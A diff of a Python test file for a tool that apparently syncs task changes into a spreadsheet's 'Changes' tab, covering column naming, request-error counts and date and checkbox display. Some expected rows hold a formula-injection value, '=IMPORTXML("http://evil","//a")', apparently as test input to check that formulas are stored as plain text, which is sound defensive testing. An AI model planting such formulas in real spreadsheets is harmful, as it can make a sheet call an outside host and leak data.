@@ -48,8 +48,9 @@ def test_pending_changes_land_once_in_a_new_changes_tab(tmp_path: Path) -> None:
         rows = w.values("Changes")
         assert rows[0] == HEADER
         assert [row[1:] for row in rows[1:]] == [
-            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "list", "Drafting", "Review"],
-            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "name", "=1+1", "Plain"],
+            # In the sheet's language: the column headers the pair maps `list` and `name` to.
+            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "Status", "Drafting", "Review"],
+            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "Title", "=1+1", "Plain"],
         ]
         assert rows[1][0].startswith("2026-12-01 09:05")  # a date cell shown in Europe/Paris time
         assert len(w.values("Calendar")) == 13
@@ -114,7 +115,7 @@ def test_list_field_option_ids_are_shown_as_their_text(tmp_path: Path) -> None:
         option = {o["value"]["text"]: o["id"] for o in field["options"]}
         record(w, 9, field="custom:Channel", before=option["Organic"], after=option["Paid"])
         w.sync()
-        assert w.values("Changes")[1][3:] == ["custom:Channel", "Organic", "Paid"]
+        assert w.values("Changes")[1][3:] == ["Channel", "Organic", "Paid"]  # no column: the field by name
 
 
 def test_a_renamed_changes_tab_does_not_block_the_pair(tmp_path: Path) -> None:
@@ -136,3 +137,38 @@ def test_a_renamed_changes_tab_does_not_block_the_pair(tmp_path: Path) -> None:
         record(w, 2)
         assert w.sync().outcome == "ok"  # a fresh Changes tab, with the new row, and the old one kept
         assert len(w.values("Changes")) == 2 and len(w.values("Changes 2025")) == 2
+
+
+def test_a_missing_changes_tab_costs_one_400_per_process_not_one_per_run(tmp_path: Path) -> None:
+    with world(tmp_path) as w:
+        w.configure(extra=CHANGES)
+        syncer = w.syncer()  # one process: the service's Syncer lives as long as the service
+        w.clear_logs()
+        for _ in range(3):  # a pair that never writes (here: plans only) keeps the tab missing
+            syncer.preview("calendar")
+        statuses = [entry["status"] for entry in w.sheets_app.state.request_log.snapshot()]
+        assert statuses == [400, 200, 200, 200]  # the first read found the tab missing, once
+        assert syncer.run("calendar").outcome == "ok"  # the write adds it ...
+        w.clear_logs()
+        assert syncer.run("calendar").outcome == "noop"  # ... and the read finds it again at once
+        assert [e["status"] for e in w.sheets_app.state.request_log.snapshot()] == [200]
+        assert w.values("Changes") == [HEADER]
+
+
+def test_dates_and_checkboxes_in_the_changes_tab_read_as_the_sheet_shows_them(tmp_path: Path) -> None:
+    with world(tmp_path) as w:
+        w.configure(
+            columns="""
+      - {header: Date, field: due}
+      - {header: Title, field: name}
+      - {header: Done, field: dueComplete}
+""",
+            extra=CHANGES,
+        )
+        record(w, 5, field="due", before="2026-12-01T08:00:00.000Z", after="2026-12-02T23:00:00.000Z")
+        record(w, 6, field="dueComplete", before="false", after="true")
+        w.sync()
+        assert [row[3:] for row in w.values("Changes")[1:]] == [
+            ["Date", "2026-12-01 09:00", "2026-12-03"],  # Europe/Paris: 23:00 UTC is midnight next day
+            ["Done", "FALSE", "TRUE"],
+        ]
